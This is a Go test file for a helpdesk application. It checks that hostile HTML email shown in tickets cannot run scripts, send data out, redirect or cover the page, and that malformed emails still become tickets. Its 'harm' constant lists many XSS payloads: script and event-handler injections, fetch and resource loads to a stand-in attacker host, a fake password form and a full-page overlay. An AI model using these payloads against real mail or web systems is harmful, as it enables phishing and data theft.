package oknotest_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/oknodesk/okno"
	"github.com/oknodesk/okno/internal/db"
	"github.com/oknodesk/okno/internal/oknotest"
)

// listening is a server that nothing on our pages may ever call.
type listening struct {
	*httptest.Server
	mu    sync.Mutex
	calls []string
}

func listen(t *testing.T) *listening {
	l := &listening{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		defer l.mu.Unlock()
		l.calls = append(l.calls, r.Method+" "+r.URL.String())
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *listening) heard() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.calls...)
}

// harm is HTML that would run a script, send a form, load or call something at
// EVIL, or lay itself over the page.
const harm = `<script>top.harmed = 1; fetch("EVIL/script")</script><script src="EVIL/script.js"></script>
<img src="EVIL/pixel.png"><img src=x onerror="top.harmed = 2; new Image().src = 'EVIL/onerror'"><img srcset="EVIL/srcset 1x" src="cid:none">
<svg onload="top.harmed = 3"><image href="EVIL/svg.png"/><use href="EVIL/svg#x"/></svg><math><mtext><script>top.harmed = 4</script></mtext></math>
<style>@import "EVIL/style.css"; @font-face { font-family: f; src: url(EVIL/font) } p { font-family: f; background: url(EVIL/background) } body { background: url("EVIL/body") }</style>
<link rel="stylesheet" href="EVIL/link.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">
<base href="EVIL/"><img src="relative.png"><meta http-equiv="refresh" content="0;url=EVIL/refresh">
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.harmed = 5</script><img src='EVIL/srcdoc'>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">
<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio><picture><source srcset="EVIL/source"><img src="EVIL/picture"></picture>
<table background="EVIL/table"><tr><td style="background-image: url('EVIL/cell')">cell</td></tr></table><input type="image" src="EVIL/input">
<form action="EVIL/form" method="post" id="f"><input name="password" autofocus onfocus="top.harmed = 6"><button id="send">Sign in again</button></form>
<details open ontoggle="top.harmed = 7"><summary>More</summary></details><body onload="top.harmed = 8">
<a id="run" href="javascript:top.harmed=9">run</a>
<div id="over" style="position: fixed; top: -3000px; left: -3000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red">Your session has ended.</div>
<p>the last words of the letter</p>`

// frame is the message's own document.
const frame = `document.querySelector("iframe").contentDocument`

// unharmed looks at a ticket's page with the letter on it.
func unharmed(t *testing.T, v *oknotest.Visitor, path string, evil *listening) {
	t.Helper()
	v.Open(path).Sees("the last words of the letter")
	// What is there to be pressed in the letter is pressed.
	v.Do(`for (const e of ` + frame + `.querySelectorAll("button, a[href^='javascript'], summary")) { e.click() }`)
	v.Do(`for (const f of ` + frame + `.querySelectorAll("form")) { try { f.requestSubmit() } catch {} }`)
	v.Do(`document.querySelector("iframe").scrollIntoView()`)
	v.Sees("the last words of the letter")
	if harmed := oknotest.Ask[int](v, "window.harmed || 0"); harmed != 0 {
		t.Errorf("%s: a script ran, the one of place %d", path, harmed)
	}
	if !oknotest.Ask[bool](v, `location.pathname === `+"`"+path+"`"+` && document.querySelector("h1") !== null`) {
		t.Errorf("%s: the letter has led the page elsewhere", path)
	}
	// Whatever lies over the letter ends where its frame does.
	if covered := oknotest.Ask[string](v, `(() => { document.querySelector("h1").scrollIntoView(); for (const e of document.querySelectorAll("h1, header a, header button")) {
		const r = e.getBoundingClientRect(), x = r.x + r.width / 2, y = r.y + r.height / 2;
		if (r.width && x > 0 && y > 0 && x < innerWidth && y < innerHeight) {
			const top = document.elementFromPoint(x, y); if (top && top.matches("iframe")) { return e.outerHTML } } } return "" })()`); covered != "" {
		t.Errorf("%s: the letter covers %s", path, covered)
	}
	for _, call := range evil.heard() {
		t.Errorf("%s: the letter called out: %s", path, call)
	}
}

func TestHostileLetterDoesNoHarmInTheBrowser(t *testing.T) {
	r := oknotest.Start(t, oknotest.Options{})
	evil := listen(t)
	html := strings.ReplaceAll(harm, "EVIL", evil.URL)
	letter := "From: Carl <" + oknotest.Carl + ">\r\nTo: " + oknotest.Support + "\r\nSubject: Harm\r\nMessage-ID: <harm@customer.example>\r\nDate: Fri, 20 Nov 2026 12:00:00 +0000\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + strings.ReplaceAll(html, "\n", "\r\n") + "\r\n"
	if err := oknotest.Send(r.SMTP, oknotest.Carl, oknotest.Support, []byte(letter)); err != nil {
		t.Fatal(err)
	}
	b := r.Browser(t)
	carl := b.Person("Carl").Open(r.Sink.Letter(oknotest.Carl, "#100001").Link(t, "/t/"))
	carl.At("/tickets/100001")
	ann := b.Person("Ann").SignIn(oknotest.Ann)
	both := func(t *testing.T) {
		unharmed(t, ann, "/desk/tickets/100001", evil)
		unharmed(t, carl, "/tickets/100001", evil)
	}
	t.Run("made safe", func(t *testing.T) {
		both(t)
		ann.NoFaults()
		carl.NoFaults()
	})
	// The cleaner is one lock, the frame's sandbox and the policies are another:
	// here the first is left open.
	t.Run("as it came", func(t *testing.T) {
		err := r.DB.Write(t.Context(), func(tx *db.Tx) error {
			_, err := tx.Exec(`UPDATE message SET html = ?`, html)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		both(t)
	})
	t.Run("opened alone", func(t *testing.T) {
		page, err := r.Desk.Ticket(t.Context(), r.Agent(oknotest.Ann), "100001", 0)
		if err != nil {
			t.Fatal(err)
		}
		ann.Open("/messages/" + string(page.Messages[0].Ref)).Sees("the last words of the letter")
		if !oknotest.Ask[bool](ann, `location.pathname.startsWith("/messages/") && !window.harmed`) {
			t.Error("the letter opened alone has led elsewhere or run a script")
		}
		for _, call := range evil.heard() {
			t.Errorf("the letter opened alone called out: %s", call)
		}
	})
}

func TestBrokenLettersBecomeTicketsAndTheServerGoesOn(t *testing.T) {
	r := oknotest.Start(t, oknotest.Options{})
	for n, broken := range []string{
		"Subject: no colon follows\r\nthis line is none\r\nFrom: " + oknotest.Carl + "\r\n\r\nstill here 0\r\n",
		"From: " + oknotest.Carl + "\r\nSubject: =?utf-9?X?broken?= =?utf-8?B?!!!?=\r\nContent-Type: text/plain; charset=nonsense\r\nContent-Transfer-Encoding: rot13\r\n\r\nstill here 1\r\n",
		"From: " + oknotest.Carl + "\r\nSubject: parts\r\nContent-Type: multipart/mixed; boundary=gone\r\n\r\nstill here 2\r\n",
		"From: " + oknotest.Carl + "\r\nSubject: parts\r\nContent-Type: multipart/mixed\r\n\r\n--\r\n\r\nstill here 3\r\n",
		"From: <<" + oknotest.Carl + "\r\nSubject: \x00\xff\xfe\r\nDate: yesterday\r\nMessage-ID: broken\r\n\r\nstill here 4 \xff\xfe\r\n",
		"\r\nstill here 5\r\n",
	} {
		if err := oknotest.Send(r.SMTP, oknotest.Carl, oknotest.Support, []byte(broken)); err != nil {
			t.Errorf("letter %d is refused: %v", n, err)
		}
	}
	r.Settle()
	list, err := r.Desk.View(t.Context(), r.Agent(oknotest.Ann), okno.ViewOpen, "")
	if err != nil {
		t.Fatal(err)
	}
	text := ""
	for _, row := range list.Rows {
		text += row.LastWord + "\n"
	}
	for n := range 6 {
		if !strings.Contains(text, "still here "+string(rune('0'+n))) {
			t.Errorf("the words of letter %d are in no ticket:\n%s", n, text)
		}
	}
}
